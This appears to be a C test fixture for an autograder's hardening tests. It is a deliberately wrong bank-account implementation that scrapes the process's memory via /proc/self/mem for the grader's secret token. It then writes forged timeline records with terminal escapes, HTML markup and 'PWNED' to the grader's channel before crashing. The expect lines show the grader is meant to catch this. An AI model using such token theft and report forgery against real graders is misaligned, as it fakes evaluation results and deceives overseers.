/* lesson: 02-bank
 * A wrong bank (withdraw never refuses) that forges the failure timeline
 * (grader/harness/timeline.h): in deposit_and_balance it finds the record
 * channel and the run's token (as forge_pass_token.c does) and writes
 * "TOKEN timeline ..." records, then crashes, so that its forged record is
 * the run's only timeline and is shown with the crash. The records hold
 * terminal escapes, markup and words of the right shape whose sites point
 * into the grader's own code (the interposer that a renamed pthread_create
 * reaches) and into the student's (account_withdraw). Only the shape may
 * pass: no byte of the record is copied into the JSON, and the grader's code
 * is never named; the student's own site is (the proof that the record was
 * read: T7 ... lock(m3)). The proof of attempt: refused_none, the record
 * written on the channel with a token.
 * expect-test: crashed
 * expect-message: SIGABRT.* in refused_none \(bank\.c:[0-9]+\)
 * expect-timeline: ^T7 bank\.c:[0-9]+ lock\(m3\)$
 * expect-not-message: PWNED
 * expect-not-message: intercept.c
 * expect-not-message: <b>
 * expect-max-score: 4
 */
#include "bank.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

@PROOF@

/* The value after `flag` on the command line, or -1. */
static long cmdline_number(const char *flag)
{
    char buf[4096];
    FILE *f = fopen("/proc/self/cmdline", "r");
    size_t n = f ? fread(buf, 1, sizeof buf - 1, f) : 0;
    if (f)
        fclose(f);
    buf[n] = '\0';
    for (size_t i = 0; i < n; i += strlen(buf + i) + 1)
        if (strcmp(buf + i, flag) == 0 && i + strlen(flag) + 1 < n)
            return strtol(buf + i + strlen(flag) + 1, NULL, 10);
    return -1;
}

/* Every run of exactly 32 hex digits in the process's writable memory (the
 * token among them), up to 16, through /proc/self/mem. */
static char found[16][33];
static size_t nfound;
static unsigned char chunk[1 << 16];

static void scan(const unsigned char *buf, size_t n, uintptr_t at)
{
    size_t run = 0;
    for (size_t i = 0; i <= n && nfound < 16; i++) {
        bool hex = i < n && ((buf[i] >= '0' && buf[i] <= '9') || (buf[i] >= 'a' && buf[i] <= 'f'));
        if (hex) {
            run++;
            continue;
        }
        uintptr_t start = at + i - 32;
        bool ours = start >= (uintptr_t)found && start < (uintptr_t)(found + 16);
        if (run == 32 && i < n && !ours) {
            bool dup = false;
            for (size_t k = 0; k < nfound; k++)
                dup |= memcmp(found[k], buf + i - 32, 32) == 0;
            if (!dup) {
                memcpy(found[nfound], buf + i - 32, 32);
                found[nfound++][32] = '\0';
            }
        }
        run = 0;
    }
}

/* Also the executable's load address (its first mapping). */
static uintptr_t exe_base;

static void find_tokens(void)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    int mem = open("/proc/self/mem", O_RDONLY);
    if (!maps || mem < 0) {
        if (maps)
            fclose(maps);
        if (mem >= 0)
            close(mem);
        return;
    }
    char line[512];
    while (fgets(line, sizeof line, maps) && nfound < 16) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3)
            continue;
        if (!exe_base)
            exe_base = lo;
        if (perms[0] != 'r' || perms[1] != 'w' || hi - lo > (64ul << 20) || strstr(line, "[v"))
            continue;
        for (unsigned long at = lo; at < hi && nfound < 16; at += sizeof chunk - 33) {
            size_t want = hi - at < sizeof chunk ? hi - at : sizeof chunk;
            ssize_t got = pread(mem, chunk, want, (off_t)at);
            if (got <= 0)
                break;
            scan(chunk, (size_t)got, at);
            if ((size_t)got < sizeof chunk)
                break;
        }
    }
    fclose(maps);
    close(mem);
}

bool account_withdraw(account_t *a, long amount);

/* The forged records on the channel; 0 when written with a token found. */
static int forge(void)
{
    long chan = cmdline_number("--chan");
    find_tokens();
    if (chan < 0 || nfound == 0)
        return ENOENT;
    /* The renamed pthread_create: the grader's interposer (intercept.c). */
    unsigned long harness = (unsigned long)((uintptr_t)(void *)pthread_create - exe_base);
    unsigned long mine = (unsigned long)((uintptr_t)(void *)account_withdraw - exe_base + 4);
    char text[8192];
    size_t len = 0;
    for (size_t t = 0; t < nfound && len < sizeof text - 1024; t++)
        len += (size_t)snprintf(text + len, sizeof text - len,
                                "%s timeline \x1b[2J<b>PWNED</b> 1,1,L,1,0,0,@%lx "
                                "2,2,PWNED,1,0,0,? 3,3,L,1,0,0,@%lx,<b> "
                                "4,7,L,3,0,0,@%lx 5,1,U,1,0,0,@zz\x1b[31m\n",
                                found[t], harness, harness, mine);
    if (len > sizeof text)
        len = sizeof text;
    return write((int)chan, text, len) == (ssize_t)len ? 0 : errno;
}

struct account { pthread_mutex_t lock; long balance; };

account_t *account_new(long balance)
{
    if (in_test("deposit_and_balance"))
        refused(forge());
    account_t *a = malloc(sizeof *a);
    if (!a)
        return NULL;
    pthread_mutex_init(&a->lock, NULL);
    a->balance = balance;
    return a;
}

void account_free(account_t *a)
{
    if (!a)
        return;
    pthread_mutex_destroy(&a->lock);
    free(a);
}

/* WRONG: never refuses, the balance goes below zero. */
bool account_withdraw(account_t *a, long amount)
{
    pthread_mutex_lock(&a->lock);
    a->balance -= amount;
    pthread_mutex_unlock(&a->lock);
    return true;
}

void account_deposit(account_t *a, long amount)
{
    pthread_mutex_lock(&a->lock);
    a->balance += amount;
    pthread_mutex_unlock(&a->lock);
}

long account_balance(account_t *a)
{
    pthread_mutex_lock(&a->lock);
    long b = a->balance;
    pthread_mutex_unlock(&a->lock);
    return b;
}
